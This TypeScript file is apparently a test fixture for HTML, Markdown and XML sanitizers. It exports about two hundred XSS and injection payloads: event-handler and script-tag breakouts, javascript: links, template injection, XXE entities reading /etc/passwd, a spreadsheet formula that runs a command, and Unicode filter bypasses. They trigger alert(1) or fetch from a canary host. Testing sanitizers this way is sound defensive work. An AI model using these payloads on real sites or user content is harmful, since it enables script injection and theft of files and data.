/** What a payload calls when it runs; the tripwire of the tests listens. */
const run = 'alert(1)'
/** A host that no page may ask anything of. */
export const canary = 'canary.example'

/** Elements and attributes of HTML, plain and bent until a careless filter lets them through. */
const html = [
  `<script>${run}</script>`, `<SCRIPT>${run}</SCRIPT>`, `<script src=//${canary}/a.js></script>`, `<scr<script>ipt>${run}</scr</script>ipt>`, `<script\n>${run}</script\n>`,
  `<script/x>${run}</script>`, `</script><script>${run}</script>`, `<script>${run}`, `<script type=module>import'//${canary}/b.js'</script>`, `<<script>${run}//<</script>`,
  `<img src=x onerror=${run}>`, `<img src=x onerror="${run}"`, `<IMG SRC=x ONERROR=${run}>`, `<img/src=x/onerror=${run}>`, `<img src=x:x onerror=${run}//`,
  `<img src="x"onerror="${run}">`, `<img\tsrc=x\tonerror=${run}>`, `<image src=x onerror=${run}>`, `"><img src=x onerror=${run}>`, `'><img src=x onerror=${run}>`,
  `<img src=//${canary}/c.png>`, `<img srcset="//${canary}/d.png 1x">`, `<picture><source srcset=//${canary}/e.png><img></picture>`, `<input type=image src=//${canary}/f.png>`,
  `<svg onload=${run}>`, `<svg/onload=${run}>`, `<svg><script>${run}</script></svg>`, `<svg><script href=//${canary}/g.js />`, `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${run}><a><text y=20>x</text></a></svg>`, `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"/></svg>`, `<svg><image href=//${canary}/h.png /></svg>`, `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></svg>`,
  `<math href="javascript:${run}">x</math>`, `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`, `<math><mi xlink:href="javascript:${run}">x</mi></math>`,
  `<iframe src="javascript:${run}"></iframe>`, `<iframe srcdoc="&lt;script&gt;parent.${run}&lt;/script&gt;"></iframe>`, `<iframe src=//${canary}/i></iframe>`, `<iframe onload=${run}>`,
  `<object data="javascript:${run}"></object>`, `<object data=//${canary}/j></object>`, `<embed src="javascript:${run}">`, `<embed src=//${canary}/k>`, `<applet code=x>`,
  `<body onload=${run}>`, `<html onmouseover=${run}>`, `<frameset onload=${run}>`, `<base href=//${canary}/>`, `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<meta http-equiv=refresh content="0;url=//${canary}/l">`, `<link rel=stylesheet href=//${canary}/m.css>`, `<link rel=import href=//${canary}/n>`, `<link rel=prefetch href=//${canary}/o>`,
  `<style>@import'//${canary}/p.css';</style>`, `<style>*{background:url(//${canary}/q)}</style>`, `<div style="background:url(//${canary}/r)">x</div>`, `<div style="width:expression(${run})">x</div>`,
  `<details open ontoggle=${run}>x</details>`, `<video src=x onerror=${run}></video>`, `<video poster=//${canary}/s></video>`, `<audio src=x onerror=${run}>`, `<video><source onerror=${run}></video>`,
  `<input autofocus onfocus=${run}>`, `<select autofocus onfocus=${run}>`, `<textarea autofocus onfocus=${run}>`, `<button autofocus onfocus=${run}>x</button>`, `<a id=x tabindex=1 onfocus=${run}></a>`,
  `<marquee onstart=${run}>x</marquee>`, `<form action="javascript:${run}"><button>x</button></form>`, `<form><button formaction="javascript:${run}">x</button></form>`, `<isindex action="javascript:${run}">`,
  `<div onpointerover=${run}>x</div>`, `<p style=animation-name:x onanimationstart=${run}>x</p>`, `<xss onbeforetoggle=${run} popover id=x>x</xss>`, `<dialog open onclose=${run}>x</dialog>`, `<slot onslotchange=${run}>x</slot>`,
]

/** What gets out of where text is put: titles, attributes, comments, templates, areas of plain text. */
const breakouts = [
  `</title><script>${run}</script>`, `</textarea><script>${run}</script>`, `</style><script>${run}</script>`, `</noscript><script>${run}</script>`, `</template><script>${run}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`, `<template><script>${run}</script></template>`, `<template shadowrootmode=open><script>${run}</script></template>`,
  `--><script>${run}</script>`, `<!--><script>${run}</script>-->`, `<!-- --!><script>${run}</script>`, `<![CDATA[<script>${run}</script>]]>`, `<?xml-stylesheet href="javascript:${run}"?>`, `<plaintext><script>${run}`,
  `" onmouseover="${run}" x="`, `' onmouseover='${run}' x='`, `" autofocus onfocus=${run} x="`, `\` onmouseover=${run} x=\``, `x" style="background:url(//${canary}/t)" y="`, `";${run};//`, `';${run};//`, `\\";${run};//`, `\\');${run};//`,
  `</select><script>${run}</script>`, `</option></select><img src=x onerror=${run}>`, `</p></main></body><script>${run}</script>`, `</svg><script>${run}</script>`, `</xmp><script>${run}</script>`,
]

/** What gets out of the data for search engines, and of other JavaScript. */
const data = [
  `</script><script>${run}</script>{"@context":"`, `"}</script><img src=x onerror=${run}>`, `{"@type":"x","@id":"javascript:${run}"}`, `\\u003c/script\\u003e\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `"}]}</ScRiPt ><svg onload=${run}>`, `<!--<script>`, `<!--<script>${run}//-->`, `\u2028${run}\u2028`, `\u2029;${run}//`, `\${${run}}`, `\`;${run};\``, `*/${run}/*`, `__proto__`, `constructor.constructor('${run}')()`,
  `{{constructor.constructor('${run}')()}}`, `{{7*7}}<%= ${run} %>`, `#{${run}}`, `[[\${${run}}]]`, `{{{ ${run} }}}`, `$$typeof:{"type":"script"}`,
]

/** What gets out of a feed or another XML. */
const xml = [
  `]]><script>${run}</script>`, `]]>]]&gt;<script xmlns="http://www.w3.org/1999/xhtml">${run}</script>`, `</title><script xmlns="http://www.w3.org/1999/xhtml">${run}</script>`,
  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>`, `&#x3c;script&#x3e;${run}&#x3c;/script&#x3e;`, `&lt;script&gt;${run}&lt;/script&gt;`, `&amp;lt;img src=x onerror=${run}&amp;gt;`, `&xxe;`, `<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>&xxe;`,
  `<xi:include href="file:///etc/passwd"/>`, `</entry></feed><script xmlns="http://www.w3.org/1999/xhtml">${run}</script>`, `a\u0008b\u000bc\u001f<script>${run}</script>`, `\ufffe\uffff<script>${run}</script>`,
]

/** Links and pictures of Markdown that lead where they should not. */
const markdown = [
  `[x](javascript:${run})`, `[x](JaVaScRiPt:${run})`, `[x]( javascript:${run})`, `[x](javascript&#58;${run})`, `[x](javascript&colon;${run})`, `[x](&#106;avascript:${run})`, `[x](java%0ascript:${run})`, `[x](java&#x0A;script:${run})`, `[x](\u0001javascript:${run})`,
  `[x](vbscript:${run})`, `[x](data:text/html,<script>${run}</script>)`, `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`, `[x](blob:${run})`, `[x](view-source:javascript:${run})`, `[x](feed:javascript:${run})`, `[x](//${canary}/u "x\\" onmouseover=${run}")`,
  `[x](<javascript:${run}>)`, `<javascript:${run}>`, `<data:text/html,<script>${run}</script>>`, `[x][y]\n\n[y]: javascript:${run}`, `[x]: javascript:${run}\n\n[x]`, `[x](https://ok.example" onmouseover="${run})`, `[<img src=x onerror=${run}>](https://ok.example)`,
  `![x](//${canary}/v.png)`, `![x](https://${canary}/w.png)`, `![x" onerror="${run}](x)`, `![x](x "y\\" onerror=${run}")`, `![x](javascript:${run})`, `![x](data:image/svg+xml,<svg onload=${run}>)`, `![x](media:" onerror=${run})`, `![x](media:../../x)`,
  `[[see|<img src=x onerror=${run}>]]`, `[["><script>${run}</script>]]`, `[[javascript:${run}]]`, `[[see]](javascript:${run})`,
  `\`\`\`html\n<script>${run}</script>\n\`\`\``, `\`<script>${run}</script>\``, `| a |\n|---|\n| <script>${run}</script> |`, `<div>\n\n<script>${run}</script>\n\n</div>`, `\\<script>${run}</script>`, `- [ ] <script>${run}</script>`, `[^1]\n\n[^1]: <script>${run}</script>`, `https://ok.example/<script>${run}</script>`, `www.ok.example/"onmouseover=${run}`, `mailto:x@ok.example?subject=<script>${run}</script>`,
]

/** Characters that a filter may read otherwise than a browser. */
const characters = [
  `\uff1cscript\uff1e${run}\uff1c/script\uff1e`, `<\u0130mg src=x onerror=${run}>`, `<\u017fcript>${run}</\u017fcript>`, `<scr\u200bipt>${run}</scr\u200bipt>`, `<img src=x on\u00aderror=${run}>`, `\u202e<script>${run}</script>`,
  `<a href="\u00a0javascript:${run}">x</a>`, `<a href="java\tscript:${run}">x</a>`, `+ADw-script+AD4-${run}+ADw-/script+AD4-`, `%3Cscript%3E${run}%3C/script%3E`, `%253Cscript%253E${run}`, `\\x3cscript\\x3e${run}\\x3c/script\\x3e`, `=cmd|' /C calc'!A0`, `@SUM(1+1)*${run}`,
  `\ufeff<script>${run}</script>`, `🌷<script>${run}</script>🌷`, `${'<b>'.repeat(20)}<script>${run}</script>`, `<a${' '.repeat(40)}href=javascript:${run}>x`,
]

/** Two hundred texts that would run a script, or fetch something, wherever they are not shown as the text that they are. */
export const payloads: readonly string[] = [...html, ...breakouts, ...data, ...xml, ...markdown, ...characters]

/** The payloads as few texts of at most so many characters each, every one of them whole. */
export function packed(most: number, joint = ' '): string[] {
  const packs: string[] = []
  for (const payload of payloads) {
    const last = packs.at(-1)
    if (last !== undefined && last.length + joint.length + payload.length <= most) packs[packs.length - 1] = last + joint + payload
    else packs.push(payload)
  }
  return packs
}
